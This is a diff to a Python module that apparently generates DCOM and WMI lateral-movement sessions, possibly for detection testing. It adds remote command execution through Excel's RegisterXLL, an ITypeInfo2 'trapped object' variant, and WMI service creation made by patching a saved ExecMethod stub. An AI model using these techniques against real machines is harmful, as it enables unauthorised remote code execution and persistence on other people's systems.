@@ -141,6 +141,11 @@ def excel_again(dcom, options):
     by_number(create(dcom, EXCEL), dispid, options.command)
 
 
+def excel_by_number(dcom, options):
+    """RegisterXLL by the number that Excel's type library gives it, and nothing asked."""
+    by_number(create(dcom, EXCEL), TYPES["Excel.Application"]["RegisterXLL"].dispid, options.command)
+
+
 def excel_dde(dcom, options):
     """Excel's DDEInitiate."""
     app = create(dcom, EXCEL)
@@ -183,6 +188,15 @@ def trapped(dcom, _options):
     request = type_info.CreateInstance()
     request["riid"] = oaut.IID_IDispatch
     information.request(request, iid=oaut.IID_ITypeInfo, uuid=information.get_iPid())
+
+
+def trapped_2(dcom, _options):
+    """The same by the type information's second interface, which begins with the operations of the first."""
+    information = create(dcom, STDFONT).GetTypeInfo()
+    second = information.RemQueryInterface(1, (type_info.IID_ITypeInfo2,))
+    request = type_info.CreateInstance()
+    request["riid"] = oaut.IID_IDispatch
+    second.request(request, iid=type_info.IID_ITypeInfo2, uuid=second.get_iPid())
 
 
 def type_information(dcom, _options):
@@ -280,6 +294,23 @@ def wmi_subscription(dcom, _options):
         stub = (WMI_STUBS / f"put-instance-{name}-request.bin").read_bytes()
         dce.call(wmi.IWbemServices_PutInstance.opnum, stub, services.get_iPid())
         dce.recv()
+    services.RemRelease()
+
+
+def wmi_service(dcom, _options):
+    """A service created: the stub of a process that is, with the names of the other class's."""
+    login = wmi.IWbemLevel1Login(
+        dcom.CoCreateInstanceEx(wmi.CLSID_WbemLevel1Login, wmi.IID_IWbemLevel1Login)
+    )
+    services = login.NTLMLogin("//./root/cimv2", NULL, NULL)
+    login.RemRelease()
+    services.connect(wmi.IID_IWbemServices)
+    dce = services.get_dce_rpc()
+    stub = (WMI_STUBS / "exec-method-create-request.bin").read_bytes()
+    stub = stub.replace("Win32_Process".encode("utf-16le"), "Win32_Service".encode("utf-16le"))
+    stub = stub.replace(b"CommandLine\0", b"PathName\0\0\0\0")
+    dce.call(wmi.IWbemServices_ExecMethod.opnum, stub, services.get_iPid())
+    dce.recv()
     services.RemRelease()
 
 
@@ -384,6 +415,7 @@ SESSIONS = {
         mmc20_snap_in,
         mmc20_named,
         excel_again,
+        excel_by_number,
         excel_dde,
         excel_xll,
         excel_macro4,
@@ -391,6 +423,7 @@ SESSIONS = {
         outlook_run,
         file_system_image,
         trapped,
+        trapped_2,
         type_information,
         trigger,
         trigger_and_call,
@@ -401,6 +434,7 @@ SESSIONS = {
         registry,
         inventory,
         wmi_subscription,
+        wmi_service,
         benign,
         activate_mmc20,
         two_activations,
